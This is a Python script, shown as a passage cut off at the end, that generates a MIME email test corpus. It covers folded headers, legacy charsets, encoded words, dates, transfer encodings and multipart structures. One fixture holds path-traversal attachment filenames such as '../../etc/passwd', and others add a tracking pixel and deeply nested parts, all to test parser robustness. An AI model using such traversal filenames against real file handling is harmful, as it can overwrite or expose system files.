#!/usr/bin/env python3
"""Writes Poplar's MIME test corpus: hand-written messages, some in legacy charsets.

The .eml files are committed; run this again only to regenerate them after editing it.
Each message has a golden <name>.json next to it, written by `tst_MessageCorpus` when
POPLAR_UPDATE_GOLDEN=1 is set and checked by it otherwise.
"""
import base64
import os
import quopri

HERE = os.path.dirname(os.path.abspath(__file__))
MESSAGES = {}


def add(name, data):
    if isinstance(data, str):
        data = data.encode('utf-8')
    assert name not in MESSAGES, name
    MESSAGES[name] = data


def b64(data, width=76):
    text = base64.b64encode(data).decode('ascii')
    return '\n'.join(text[i:i + width] for i in range(0, len(text), width))


def ew(text, charset, enc='B'):
    raw = text.encode(charset)
    if enc == 'B':
        return '=?%s?B?%s?=' % (charset, base64.b64encode(raw).decode('ascii'))
    q = ''.join(c if (c.isalnum() and ord(c) < 128) else '=%02X' % ord(c)
                for c in raw.decode('latin-1')).replace('=20', '_')
    return '=?%s?Q?%s?=' % (charset, q)


HDR = ('From: Poplar Tester <tester@example.org>\n'
       'To: Reader <reader@example.net>\n'
       'Date: Mon, 15 Jan 2024 09:30:00 +0000\n')


def simple(name, subject, body, charset='utf-8', extra='', cte='8bit', raw_subject=None):
    """A single text/plain message whose body is in `charset`."""
    head = HDR + 'Subject: %s\n' % (raw_subject if raw_subject else subject)
    head += 'Message-ID: <%s@corpus.example.org>\nMIME-Version: 1.0\n' % name
    ct = 'Content-Type: text/plain; charset=%s\n' % charset if charset else 'Content-Type: text/plain\n'
    data = (head + extra + ct + 'Content-Transfer-Encoding: %s\n\n' % cte).encode('ascii')
    if isinstance(body, str):
        body = body.encode(charset if charset else 'utf-8')
    add(name, data + body)


# --- Headers -------------------------------------------------------------------------------
add('h01-folded-headers', HDR +
    'Subject: A subject line that was long enough\n\tto be folded by the sending\n  mailer twice\n'
    'X-Long: one\n two\n three\n'
    'Message-ID:\n <folded-id@example.org>\n\n'
    'Folded headers are joined with their white space kept.\n')
add('h02-duplicate-headers', 'From: First <first@example.org>\n'
    'To: one@example.net\nTo: two@example.net\nCc: a@example.net\nCc: b@example.net\n'
    'Subject: The first subject wins\nSubject: A second subject\n'
    'Date: Tue, 16 Jan 2024 10:00:00 +0100\n\nDuplicated fields.\n')
add('h03-obsolete-syntax', 'From : Old Mailer <old@example.org>\n'
    'To: <@relay.example.org:final@example.net>\n'
    'Subject   :   obsolete spacing\n'
    'Date: 16 Jan 99 10:00:00 EST\n\nObsolete syntax from an old mailer.\n')
add('h04-raw-utf8-headers', 'From: 李小龙 <xiaolong@例子.测试>\nTo: Zoë Ångström <zoe@example.se>\n'
    'Subject: 国际化邮件 — RFC 6532 ✓\nDate: Wed, 17 Jan 2024 12:00:00 +0800\n'
    'MIME-Version: 1.0\nContent-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: 8bit\n\n'
    '标题和发件人都是原始的 UTF-8。\n')
add('h05-no-blank-line', HDR + 'Subject: No blank line before the body\n'
    'This line has no colon, so the body starts here.\nSecond line.\n')
add('h06-mbox-from-line', 'From tester@example.org Mon Jan 15 09:30:00 2024\n' + HDR +
    'Subject: Starts with an mbox separator\n\nThe separator line is not a header.\n')
add('h07-crlf-line-endings', (HDR + 'Subject: CRLF everywhere\nContent-Type: text/plain; '
    'charset=us-ascii\n\nLine one\nLine two\n').replace('\n', '\r\n'))
add('h08-raw-8bit-gbk-header', b'From: ' + '王小明'.encode('gbk') + b' <wang@example.cn>\n'
    b'To: reader@example.net\nSubject: ' + '会议通知：周五下午'.encode('gbk') + b'\n'
    b'Date: Thu, 18 Jan 2024 08:00:00 +0800\nMIME-Version: 1.0\n'
    b'Content-Type: text/plain; charset=gbk\nContent-Transfer-Encoding: 8bit\n\n' +
    '请准时参加。原始八位的标题按正文的字符集解码。\n'.encode('gbk'))
# --- RFC 2047 -------------------------------------------------------------------------------
add('ew01-b-and-q', 'From: %s <joao@example.pt>\nTo: reader@example.net\n'
    'Subject: %s and %s\nDate: Fri, 19 Jan 2024 10:00:00 +0000\n\nB and Q words.\n'
    % (ew('João Araújo', 'iso-8859-1', 'Q'), ew('Grüße', 'utf-8'), ew('café crème', 'iso-8859-1', 'Q')))
add('ew02-adjacent-joined', HDR + 'Subject: %s\n %s\n\t%s\n\nAdjacent words join without the blanks '
    'between them.\n' % (ew('这是一个', 'utf-8'), ew('很长的', 'utf-8'), ew('中文标题', 'utf-8')))
_raw = '日本語のメール'.encode('utf-8')
add('ew03-split-multibyte', HDR + 'Subject: =?utf-8?B?%s?= =?utf-8?B?%s?=\n\n'
    'One character is split across two encoded words.\n'
    % (base64.b64encode(_raw[:4]).decode(), base64.b64encode(_raw[4:]).decode()))
add('ew04-lowercase-and-glued', HDR + 'Subject: Re:=?utf-8?q?caf=c3=a9?=s and =?UTF-8?b?bcOkaGVu?=\n\n'
    'Lower-case encodings and a word glued to text.\n')
add('ew05-in-quoted-name', 'From: "%s" <chen@example.tw>\nTo: "%s" <lin@example.tw>\n'
    'Subject: Encoded words inside quotes\nDate: Fri, 19 Jan 2024 11:00:00 +0800\n\n'
    'Many mailers put encoded words in quoted strings.\n' % (ew('陳大文', 'big5'), ew('林小美', 'utf-8')))
add('ew06-spaces-in-q', HDR + 'Subject: =?iso-8859-1?Q?Ol=E1 a todos ?=\n\nA Q word with raw blanks.\n')
add('ew07-language-tag', HDR + 'Subject: =?utf-8*zh-CN?B?%s?=\n\nRFC 2231 language in a word.\n'
    % base64.b64encode('你好'.encode()).decode())
add('ew08-unknown-charset-word', HDR + 'Subject: =?x-mystery?B?%s?=\n\nUnknown charset label.\n'
    % base64.b64encode('Überraschung'.encode()).decode())
add('ew09-mixed-charsets-adjacent', HDR + 'Subject: %s %s\n\nTwo charsets side by side.\n'
    % (ew('简体', 'gb2312'), ew('繁體', 'big5')))
add('ew10-bad-base64-padding', HDR + 'Subject: =?utf-8?B?%s?=\n\nPadding missing.\n'
    % base64.b64encode('Привет мир'.encode()).decode().rstrip('='))

# --- RFC 2231 parameters ---------------------------------------------------------------------
def mixed(name, subject, parts, extra_headers='', boundary='=-poplar-b1'):
    out = HDR + 'Subject: %s\nMIME-Version: 1.0\n%sContent-Type: multipart/mixed; boundary="%s"\n\n' % (
        subject, extra_headers, boundary)
    out = out.encode('utf-8')
    out += b'This is a multi-part message in MIME format.\n'
    for p in parts:
        out += b'--' + boundary.encode() + b'\n' + (p.encode('utf-8') if isinstance(p, str) else p) + b'\n'
    out += b'--' + boundary.encode() + b'--\n'
    add(name, out)


TEXT_PART = 'Content-Type: text/plain; charset=utf-8\n\nSee the attachment.\n'
PDF = b'%PDF-1.4\n% Poplar test file\n1 0 obj << >> endobj\ntrailer << >>\n%%EOF\n'
PNG = bytes.fromhex('89504e470d0a1a0a0000000d4948445200000001000000010806000000'
                    '1f15c4890000000d49444154789c6360000002000154a24f5d0000000049454e44ae426082')

mixed('p01-continuations', 'Filename continuations', [TEXT_PART,
      'Content-Type: application/pdf\nContent-Transfer-Encoding: base64\n'
      'Content-Disposition: attachment;\n filename*0="quarterly-report-for-the-";\n'
      ' filename*1="board-of-directors.pdf"\n\n' + b64(PDF)])
mixed('p02-charset-language', 'RFC 2231 charset and language', [TEXT_PART,
      "Content-Type: application/pdf; name*=utf-8''%E4%B8%AD%E6%96%87%E6%8A%A5%E5%91%8A.pdf\n"
      "Content-Transfer-Encoding: base64\n"
      "Content-Disposition: attachment; filename*=utf-8'zh-cn'%E4%B8%AD%E6%96%87%E6%8A%A5%E5%91%8A.pdf\n\n"
      + b64(PDF)])
_gbk_name = ''.join('%%%02X' % b for b in '项目计划'.encode('gbk'))
mixed('p03-mixed-extended-continuations', 'Extended continuations in GBK', [TEXT_PART,
      "Content-Type: application/msword\nContent-Transfer-Encoding: base64\n"
      "Content-Disposition: attachment;\n filename*0*=gbk''%s;\n filename*1*=%s;\n filename*2=\".doc\"\n\n"
      % (_gbk_name[:12], _gbk_name[12:]) + b64(b'not really a word file')])
mixed('p04-encoded-word-in-filename', 'RFC 2047 in a filename', [TEXT_PART,
      'Content-Type: image/png; name="%s"\nContent-Transfer-Encoding: base64\n'
      'Content-Disposition: attachment; filename="%s"\n\n' % (ew('照片.png', 'utf-8'), ew('照片.png', 'utf-8'))
      + b64(PNG)])
mixed('p05-raw-utf8-filename', 'Raw UTF-8 filename', [TEXT_PART,
      'Content-Type: application/vnd.ms-excel\nContent-Transfer-Encoding: base64\n'
      'Content-Disposition: attachment; filename="報告 2024.xls"\n\n' + b64(b'cells')])
add('p06-missing-semicolon', (HDR + 'Subject: Missing semicolon\nMIME-Version: 1.0\n'
    'Content-Type: text/plain charset="iso-8859-1"\nContent-Transfer-Encoding: 8bit\n\n').encode() +
    'Déjà vu: the charset is still read.\n'.encode('iso-8859-1'))
mixed('p07-path-in-filename', 'A filename with a path', [TEXT_PART,
      'Content-Type: text/plain; name="..\\\\..\\\\windows\\\\evil.txt"\n'
      'Content-Disposition: attachment; filename="../../etc/passwd"\n\nnot a password file\n'])

# --- Addresses -------------------------------------------------------------------------------
def addr(name, fields, body='Address parsing.\n'):
    add(name, fields + 'Subject: %s\nDate: Sat, 20 Jan 2024 10:00:00 +0000\n\n' % name + body)


addr('a01-groups', 'From: Organiser <org@example.org>\n'
     'To: Friends: alice@example.org, "Bob B." <bob@example.org>;, carol@example.org\n'
     'Cc: undisclosed-recipients:;\n')
addr('a02-quoted-and-comments', 'From: "Smith, Jane (Sales)" <jane.smith@example.com>\n'
     'To: joe@example.com (Joe Bloggs), "Quote \\"Me\\"" <q@example.com>, '
     '(comment first) Ann <ann@example.com>\n')
addr('a03-idn', 'From: Beijing Office <office@xn--fiqs8s.xn--fiqz9s>\n'
     'To: info@xn--mller-kva.example, 用户@例子.广告\n')
addr('a04-malformed', 'From: Doe, John <john.doe@example.com>\n'
     'To: Broken <broken@example.com, plain@example.com,, <only-angle@example.com>\n'
     'Cc: "Unclosed quote <uq@example.com>\n')
addr('a05-encoded-names', 'From: %s <tanaka@example.jp>\nTo: %s <kim@example.kr>, %s <ivan@example.ru>\n'
     % (ew('田中太郎', 'iso-2022-jp'), ew('김민수', 'euc-kr'), ew('Иван Петров', 'koi8-r', 'Q')))

# --- Dates -----------------------------------------------------------------------------------
for n, (tag, value) in enumerate([
        ('rfc5322', 'Sun, 21 Jan 2024 13:45:10 -0500'),
        ('no-weekday-two-digit-year', '21 Jan 24 13:45 GMT'),
        ('named-zone-pdt', 'Tue, 5 Mar 2024 08:15:00 PDT'),
        ('asctime', 'Wed Mar  6 14:22:01 2024'),
        ('iso8601', '2024-03-07T09:30:00+09:00'),
        ('no-zone-no-seconds', 'Fri, 8 Mar 2024 16:45'),
        ('garbage', 'sometime next week'),
        ('colon-zone-and-comment', 'Sat, 09 Mar 2024 07:00:00 +08:00 (CST)'),
        ('full-month-pm', 'Monday, March 11, 2024 3:05:00 PM +0100'),
        ('impossible-day', 'Thu, 31 Feb 2024 10:00:00 +0000')], 1):
    add('d%02d-%s' % (n, tag), 'From: dates@example.org\nTo: reader@example.net\n'
        'Subject: Date form %s\nDate: %s\n\nDate: %s\n' % (tag, value, value))

# --- Message ids -----------------------------------------------------------------------------
add('m01-threading', HDR + 'Subject: Re: Re: threading\nMessage-ID: <reply-3@example.org>\n'
    'In-Reply-To: <reply-2@example.org> (sent by Bob)\n'
    'References: <root@example.org>\n <reply-1@example.org> <reply-2@\n example.org>\n\n'
    'A reply deep in a thread.\n')
add('m02-ids-without-brackets', HDR + 'Subject: ids without brackets\nMessage-ID: bare-id@example.org\n'
    'In-Reply-To: parent@example.org\nReferences: root@example.org parent@example.org\n\nNo brackets.\n')

# --- Charsets --------------------------------------------------------------------------------
CJK = [
    ('c01-gb2312', 'gb2312', '简体中文邮件', '你好！这是一封用 GB2312 编码的邮件。\n祝好，\n王老师\n'),
    ('c02-gbk', 'gbk', 'GBK 扩展字符', '朱镕基和喆、堃这些字不在 GB2312 里，只在 GBK 里。\n'),
    ('c03-gb18030', 'gb18030', 'GB18030 四字节', '四字节字符：𠀀 和表情 😀 都能编码。\n'),
    ('c04-big5', 'big5', '繁體中文郵件', '您好！這是一封用 Big5 編碼的郵件。\n順頌時祺\n'),
    ('c05-big5-hkscs', 'big5hkscs', '香港增補字符', '呢封信有香港字：㗎、嘅、咁。\n'),
    ('c06-iso-2022-jp', 'iso-2022-jp', '日本語のテスト', 'こんにちは。ISO-2022-JP で書かれたメールです。\nよろしくお願いします。\n'),
    ('c07-shift-jis', 'shift_jis', 'シフトJIS', 'Shift_JIS のメールです。丸数字：①②③（機種依存文字）。\n'),
    ('c08-euc-jp', 'euc-jp', 'EUC-JP のメール', 'これは EUC-JP で書かれています。漢字とかな。\n'),
    ('c09-euc-kr', 'euc-kr', '한국어 메일', '안녕하세요. EUC-KR로 쓴 메일입니다.\n감사합니다.\n'),
]
for name, cs, subject, body in CJK:
    label = {'big5hkscs': 'big5-hkscs', 'shift_jis': 'Shift_JIS'}.get(cs, cs)
    pycs = 'cp932' if cs == 'shift_jis' else cs
    enc_subject = '=?%s?B?%s?=' % (label, base64.b64encode(subject.encode(pycs)).decode())
    cte = '7bit' if cs == 'iso-2022-jp' else '8bit'
    simple(name, None, body.encode(pycs), label, cte=cte, raw_subject=enc_subject)
add('c10-ks-c-5601', (HDR + 'Subject: =?ks_c_5601-1987?B?%s?=\nMIME-Version: 1.0\n'
    'Content-Type: text/plain; charset=ks_c_5601-1987\nContent-Transfer-Encoding: base64\n\n%s\n'
    % (base64.b64encode('서울 소식'.encode('cp949')).decode(),
       b64('서울에서 보내는 편지입니다. 똠방각하.\n'.encode('cp949')))))
EUROPE = [
    ('c11-iso-8859-2', 'iso-8859-2', 'Zażółć gęślą jaźń', 'Zażółć gęślą jaźń: polski tekst.\n'),
    ('c12-koi8-r', 'koi8-r', 'Привет', 'Съешь же ещё этих мягких французских булок.\n'),
    ('c13-koi8-u', 'koi8-u', 'Привіт', 'Ґанок і їжак: український текст.\n'),
    ('c14-windows-1251', 'windows-1251', 'Здравствуйте', 'Текст в кодировке Windows-1251.\n'),
    ('c15-iso-8859-7', 'iso-8859-7', 'Καλημέρα', 'Ελληνικό κείμενο σε ISO-8859-7.\n'),
    ('c16-iso-8859-15', 'iso-8859-15', 'Prix en €', 'Le prix est de 20 € (œuvre).\n'),
    ('c17-iso-8859-16', 'iso-8859-16', 'Bună ziua', 'Științele și țara: text românesc.\n'),
    ('c18-windows-1256', 'windows-1256', 'مرحبا', 'نص عربي بترميز ويندوز.\n'),
    ('c19-iso-8859-8-i', 'iso-8859-8', 'שלום', 'טקסט בעברית.\n'),
    ('c20-windows-1258', 'windows-1258', 'Xin chào', 'Xin chào các bạn.\n'),
    ('c21-windows-1250', 'windows-1250', 'Dobrý den', 'Příliš žluťoučký kůň.\n'),
    ('c22-iso-8859-5', 'iso-8859-5', 'Добрый день', 'Кириллица в ISO-8859-5.\n'),
]
def encode_1258(text, cs):
    # Windows-1258 has few precomposed letters: the others are written with combining marks.
    import unicodedata
    out = b''
    for c in text:
        try:
            out += c.encode(cs)
        except UnicodeEncodeError:
            out += unicodedata.normalize('NFD', c).encode(cs)
    return out


for name, cs, subject, body in EUROPE:
    label = 'iso-8859-8-i' if name.endswith('8-i') else cs
    simple(name, None, encode_1258(body, cs), label, raw_subject=ew(subject, cs, 'Q'))
simple('c23-windows-1252-labelled-latin1', 'Smart quotes',
       '\u201cSmart quotes\u201d and an en dash \u2013 from Windows.\n'.encode('cp1252'), 'iso-8859-1')
add('c24-utf-16', HDR + 'Subject: UTF-16 body\nMIME-Version: 1.0\n'
    'Content-Type: text/plain; charset=utf-16\nContent-Transfer-Encoding: base64\n\n'
    + b64('UTF-16 text with a BOM: 中文 ✓\n'.encode('utf-16')) + '\n')
add('c25-utf-7', HDR + 'Subject: UTF-7 body\nMIME-Version: 1.0\n'
    'Content-Type: text/plain; charset=utf-7\n\n' + 'Hi Mom -☺-! 日本語\n'.encode('utf-7').decode('ascii'))
simple('c26-no-charset-utf8', 'No charset, UTF-8 bytes', 'Ünïcödé without a label: 中文。\n', None)
simple('c27-no-charset-gbk', 'No charset, GBK bytes',
       '没有标明字符集的简体中文邮件，应该猜成国标码。我们的会议在明天下午三点。\n'.encode('gbk'), None)
simple('c28-utf8-labelled-latin1', 'UTF-8 labelled Latin-1', 'Straße, naïve, 東京\n'.encode(), 'iso-8859-1')
simple('c29-unknown-label', 'Unknown label', 'Ceci est en UTF-8 : élève.\n'.encode(), 'x-no-such-charset')
simple('c30-utf8-label-gbk-bytes', 'Label says UTF-8, bytes are GBK',
       '标签说是 UTF-8，实际上是国标码的中文内容。\n'.encode('gbk'), 'utf-8')
simple('c31-no-charset-shift-jis', 'No charset, Shift_JIS bytes',
       'ラベルのないシフトJISのメールです。よろしくお願いします。\n'.encode('cp932'), None)
simple('c32-no-charset-euc-kr', 'No charset, EUC-KR bytes',
       '문자 집합이 없는 한국어 메일입니다. 감사합니다.\n'.encode('euc-kr'), None)
simple('c33-quoted-charset-label', 'Quoted label', '"utf-8" in quotes: ✓\n'.encode(), '"UTF-8"')

# --- Transfer encodings ----------------------------------------------------------------------
_b = base64.b64encode('Base64 with bad padding and stray blanks. 中文。\n'.encode()).decode()
add('t01-base64-tolerant', HDR + 'Subject: tolerant base64\nContent-Type: text/plain; charset=utf-8\n'
    'Content-Transfer-Encoding: BASE64\n\n' + _b[:20] + ' \n  ' + _b[20:40] + '\t\n' + _b[40:].rstrip('=') + '\n\n')
add('t02-quoted-printable', HDR + 'Subject: quoted-printable oddities\n'
    'Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: quoted-printable\n\n'
    'Soft line break that joins=\n the line, lower-case hex caf=c3=a9, a bad escape =ZZ stays,\n'
    'an equals sign at the end =  \ntrailing blanks removed   \nand =E4=B8=AD=E6=96=87.\n')
add('t03-8bit-and-binary', (HDR + 'Subject: 8bit and binary\nMIME-Version: 1.0\n'
    'Content-Type: multipart/mixed; boundary=bb\n\n--bb\nContent-Type: text/plain; charset=utf-8\n'
    'Content-Transfer-Encoding: 8bit\n\nRaw 8-bit UTF-8: ½ ¾ ✓\n--bb\nContent-Type: application/octet-stream\n'
    'Content-Transfer-Encoding: binary\nContent-Disposition: attachment; filename=blob.bin\n\n').encode()
    + bytes(range(1, 10)) + b'\xff\xfe\n--bb--\n')


def uuencode(data, filename):
    import binascii
    lines = ['begin 644 %s' % filename]
    for i in range(0, len(data), 45):
        lines.append(binascii.b2a_uu(data[i:i + 45]).decode('ascii').rstrip('\n'))
    lines += ['`', 'end']
    return '\n'.join(lines)


add('t04-uuencode-in-text', HDR + 'Subject: uuencoded attachment\n\nHere is the file you asked for:\n\n'
    + uuencode(b'Hello from an old mailer.\n' * 3, 'hello.txt') + '\n\nRegards,\nOld Mailer\n')
add('t05-format-flowed', HDR + 'Subject: format=flowed\nContent-Type: text/plain; charset=utf-8; '
    'format=flowed\n\nThis paragraph was wrapped by the sender \nbut flows back into one \nline.\n\n'
    '> A quoted paragraph that is also \n> flowed.\n>> Deeper quote \n>> joined.\n \n'
    '-- \nSignature line\n')
add('t06-format-flowed-delsp', HDR + 'Subject: delsp=yes\nContent-Type: text/plain; charset=utf-8; '
    'format=flowed; delsp=yes\n\n日本語の長い文章を \n送信者が折り返しました。\n')
_part1 = base64.b64encode(b'First half, ').decode()
_part2 = base64.b64encode(b'second half.\n').decode()
add('t07-base64-concatenated', HDR + 'Subject: base64 padding in the middle\n'
    'Content-Type: text/plain; charset=us-ascii\nContent-Transfer-Encoding: base64\n\n'
    + _part1 + '\n' + _part2 + '\n')
add('t08-qp-unknown-encoding', HDR + 'Subject: unknown transfer encoding\n'
    'Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: x-token\n\n'
    'An unknown transfer encoding is taken as 8bit.\n')

# --- Structure -------------------------------------------------------------------------------
mixed('s01-mixed-attachments', 'Report attached', [
    'Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: quoted-printable\n\n'
    'Hi,\n\nthe report and the chart are attached.=0A\n',
    'Content-Type: application/pdf; name="report.pdf"\nContent-Transfer-Encoding: base64\n'
    'Content-Disposition: attachment; filename="report.pdf"\n\n' + b64(PDF),
    'Content-Type: image/png; name="chart.png"\nContent-Transfer-Encoding: base64\n'
    'Content-Disposition: inline; filename="chart.png"\n\n' + b64(PNG)])


def alternative(name, subject, parts, boundary='alt-1', extra=''):
    body = 'Content-Type: multipart/alternative; boundary="%s"\n%s\n' % (boundary, extra)
    for p in parts:
        body += '--%s\n%s\n' % (boundary, p)
    body += '--%s--\n' % boundary
    add(name, HDR + 'Subject: %s\nMIME-Version: 1.0\n' % subject + body)


PLAIN = 'Content-Type: text/plain; charset=utf-8\n\nPlain version of the newsletter.\n'
HTML = ('Content-Type: text/html; charset=utf-8\n\n<html><head><title>News</title></head><body>'
        '<h1>Newsletter</h1><p>The <b>HTML</b> version &amp; more.</p></body></html>\n')
alternative('s02-alternative', 'Plain and HTML', [PLAIN, HTML])
alternative('s03-alternative-html-first', 'HTML listed first', [HTML, PLAIN])
add('s04-related-cid', HDR + 'Subject: Inline image\nMIME-Version: 1.0\n'
    'Content-Type: multipart/alternative; boundary="outer"\n\n--outer\n' + PLAIN +
    '--outer\nContent-Type: multipart/related; boundary="inner"; type="text/html"\n\n--inner\n'
    'Content-Type: text/html; charset=utf-8\n\n<p>Our logo:</p><img src="cid:logo@example.org" alt="logo">'
    '<img src="https://tracker.example.com/pixel.gif" width=1 height=1>\n--inner\n'
    'Content-Type: image/png\nContent-ID: <logo@example.org>\nContent-Transfer-Encoding: base64\n\n'
    + b64(PNG) + '\n--inner--\n--outer--\n')
add('s05-pgp-signed', HDR + 'Subject: Signed with OpenPGP\nMIME-Version: 1.0\n'
    'Content-Type: multipart/signed; micalg=pgp-sha256; protocol="application/pgp-signature"; boundary="sig"\n\n'
    '--sig\nContent-Type: text/plain; charset=utf-8\n\nThis text is signed.\n--sig\n'
    'Content-Type: application/pgp-signature; name="signature.asc"\n\n-----BEGIN PGP SIGNATURE-----\n'
    'iQEzBAEBCAAdFiEEAAAAAAAAAAAAAAAAAAAAAAAAAAAFAmWlAAAACgkQ\n=abcd\n-----END PGP SIGNATURE-----\n--sig--\n')
add('s06-pgp-encrypted', HDR + 'Subject: Encrypted with OpenPGP\nMIME-Version: 1.0\n'
    'Content-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary="enc"\n\n'
    '--enc\nContent-Type: application/pgp-encrypted\n\nVersion: 1\n--enc\n'
    'Content-Type: application/octet-stream; name="encrypted.asc"\n\n-----BEGIN PGP MESSAGE-----\n'
    'hQEMAAAAAAAAAAAAAQf/AAAA\n=wxyz\n-----END PGP MESSAGE-----\n--enc--\n')
add('s07-smime-signed', HDR + 'Subject: Signed with S/MIME\nMIME-Version: 1.0\n'
    'Content-Type: multipart/signed; protocol="application/pkcs7-signature"; micalg=sha-256; boundary="sm"\n\n'
    '--sm\nContent-Type: multipart/alternative; boundary="smalt"\n\n--smalt\n' + PLAIN + '--smalt\n' + HTML +
    '--smalt--\n\n--sm\nContent-Type: application/pkcs7-signature; name=smime.p7s\n'
    'Content-Transfer-Encoding: base64\nContent-Disposition: attachment; filename=smime.p7s\n\n'
    + b64(b'\x30\x82\x01\x00 not a real signature') + '\n--sm--\n')
add('s08-smime-encrypted', HDR + 'Subject: Encrypted with S/MIME\nMIME-Version: 1.0\n'
    'Content-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m\n'
    'Content-Transfer-Encoding: base64\nContent-Disposition: attachment; filename=smime.p7m\n\n'
    + b64(b'\x30\x80 enveloped data, not real') + '\n')
INNER = ('From: %s <li.wei@example.cn>\nTo: team@example.org\nSubject: %s\n'
         'Date: Mon, 8 Jan 2024 08:00:00 +0800\nMIME-Version: 1.0\n'
         'Content-Type: text/plain; charset=gb2312\nContent-Transfer-Encoding: base64\n\n%s\n'
         % (ew('李伟', 'gb2312'), ew('原始邮件', 'gb2312'), b64('这是被转发的原始邮件。\n'.encode('gb2312'))))
mixed('s09-forwarded-message', 'Fwd: original', [
    'Content-Type: text/plain; charset=utf-8\n\nForwarding the message below.\n',
    'Content-Type: message/rfc822\nContent-Disposition: inline\n\n' + INNER])
INNER2 = ('From: inner@example.org\nTo: middle@example.org\nSubject: Innermost\n'
          'Date: Tue, 2 Jan 2024 10:00:00 +0000\n\nThe innermost text.\n')
MIDDLE = ('From: middle@example.org\nTo: outer@example.org\nSubject: Middle\nMIME-Version: 1.0\n'
          'Content-Type: multipart/mixed; boundary="mid"\n\n--mid\nContent-Type: text/plain\n\n'
          'Middle text.\n--mid\nContent-Type: message/rfc822\n\n' + INNER2 + '--mid--\n')
mixed('s10-nested-forwards', 'Fwd: Fwd: nested', [
    'Content-Type: text/plain\n\nOuter text.\n', 'Content-Type: message/rfc822\n\n' + MIDDLE])
add('s11-delivery-report', 'From: Mail Delivery System <MAILER-DAEMON@mx.example.org>\n'
    'To: tester@example.org\nSubject: Undelivered Mail Returned to Sender\n'
    'Date: Mon, 15 Jan 2024 09:31:00 +0000\nMIME-Version: 1.0\n'
    'Content-Type: multipart/report; report-type=delivery-status; boundary="rep"\n\n'
    '--rep\nContent-Type: text/plain; charset=us-ascii\n\nThis is the mail system at host mx.example.org.\n\n'
    'I\'m sorry to have to inform you that your message could not be delivered.\n\n'
    '<nobody@example.net>: host mail.example.net said: 550 5.1.1 User unknown\n'
    '--rep\nContent-Type: message/delivery-status\n\nReporting-MTA: dns; mx.example.org\n\n'
    'Final-Recipient: rfc822; nobody@example.net\nAction: failed\nStatus: 5.1.1\n'
    '--rep\nContent-Type: text/rfc822-headers\n\nFrom: tester@example.org\nTo: nobody@example.net\n'
    'Subject: Hello?\n--rep--\n')
ICS = ('BEGIN:VCALENDAR\nMETHOD:REQUEST\nPRODID:-//Poplar//Corpus//EN\nVERSION:2.0\nBEGIN:VEVENT\n'
       'SUMMARY:Project kick-off\\, room 4\nDTSTART;TZID=Asia/Shanghai:20240201T140000\n'
       'DTEND;TZID=Asia/Shanghai:20240201T150000\nLOCATION:Building A\\, floor 3\n'
       'ORGANIZER;CN="Wang Fang":mailto:wang.fang@example.cn\n'
       'DESCRIPTION:Agenda:\\n1. Goals\\n2. Schedule that is long enough to be \n folded\n'
       'END:VEVENT\nEND:VCALENDAR\n')
alternative('s12-calendar-invite', 'Invitation: Project kick-off', [
    'Content-Type: text/plain; charset=utf-8\n\nYou are invited to the project kick-off.\n',
    'Content-Type: text/calendar; charset=utf-8; method=REQUEST\n\n' + ICS])
add('s13-calendar-only', HDR + 'Subject: Calendar only\nMIME-Version: 1.0\n'
    'Content-Type: text/calendar; method=REQUEST; charset=utf-8\n\n' + ICS)
add('s14-missing-boundary', HDR + 'Subject: boundary parameter missing\nMIME-Version: 1.0\n'
    'Content-Type: multipart/mixed\n\n--lost\nContent-Type: text/plain\n\nFound anyway.\n'
    '--lost\nContent-Type: text/plain\nContent-Disposition: attachment; filename=a.txt\n\nattached\n--lost--\n')
add('s15-no-closing-boundary', HDR + 'Subject: truncated multipart\nMIME-Version: 1.0\n'
    'Content-Type: multipart/mixed; boundary=cut\n\n--cut\nContent-Type: text/plain\n\nFirst part.\n'
    '--cut\nContent-Type: text/plain\n\nThe sender stopped here')
add('s16-boundary-prefix', HDR + 'Subject: boundary prefixes\nMIME-Version: 1.0\n'
    'Content-Type: multipart/mixed; boundary="abc"\n\n--abc\nContent-Type: text/plain\n\n'
    'A line starting with the boundary:\n--abcdef is not a boundary.\n--abc   \n'
    'Content-Type: text/plain\n\nSecond part after a boundary with trailing blanks.\n--abc--\nepilogue\n')
add('s17-digest', HDR + 'Subject: Digest\nMIME-Version: 1.0\nContent-Type: multipart/digest; boundary=dg\n\n'
    '--dg\n\nFrom: one@example.org\nSubject: First digest entry\n\nEntry one.\n'
    '--dg\n\nFrom: two@example.org\nSubject: Second digest entry\n\nEntry two.\n--dg--\n')
mixed('s18-text-attachment-and-inline-text', 'Text parts', [
    'Content-Type: text/plain; charset=utf-8\n\nFirst inline text.\n',
    'Content-Type: text/plain; charset=utf-8\nContent-Disposition: attachment; filename="notes.txt"\n\n'
    'These notes are an attachment.\n',
    'Content-Type: text/plain; charset=utf-8\nContent-Disposition: inline\n\nSecond inline text.\n'])


def nested(depth):
    if depth == 0:
        return 'Content-Type: text/plain\n\nThe bottom.\n'
    return 'Content-Type: multipart/mixed; boundary="n%d"\n\n--n%d\n%s\n--n%d--\n' % (
        depth, depth, nested(depth - 1), depth)


add('s19-deep-nesting', HDR + 'Subject: 40 levels deep\nMIME-Version: 1.0\n' + nested(40))
add('s21-html-remote-content', HDR + 'Subject: Remote images\nMIME-Version: 1.0\n'
    'Content-Type: text/html; charset=utf-8\n\n'
    '<html><head><link rel="stylesheet" href="https://cdn.example.com/mail.css">'
    '<style>body { background: url(http://img.example.com/bg.png) } p { color: #333 }</style></head>'
    '<body background="http://img.example.com/body.jpg"><p>Sale!</p>'
    '<img src="http://img.example.com/a.png" alt="Big sale">'
    '<img src="https://img.example.com/b.png" srcset="https://img.example.com/b2.png 2x">'
    '<a href="https://shop.example.com/">Shop now</a>'
    '<div style="background-image: url(\'//img.example.com/c.png\')">x</div></body></html>\n')
add('s22-empty-body', HDR + 'Subject: Empty body\n\n')
add('s23-headers-only', HDR + 'Subject: No body at all')
add('s24-binary-garbage', bytes((i * 37 + 11) % 256 for i in range(600)))
add('s25-bad-content-type', HDR + 'Subject: Content-Type without subtype\nContent-Type: text\n\nStill text.\n')
mixed('s26-inline-image-between-text', 'Photo inline', [
    'Content-Type: text/plain; charset=utf-8\n\nBefore the photo.\n',
    'Content-Type: image/png; name=photo.png\nContent-Disposition: inline; filename=photo.png\n'
    'Content-Transfer-Encoding: base64\n\n' + b64(PNG),
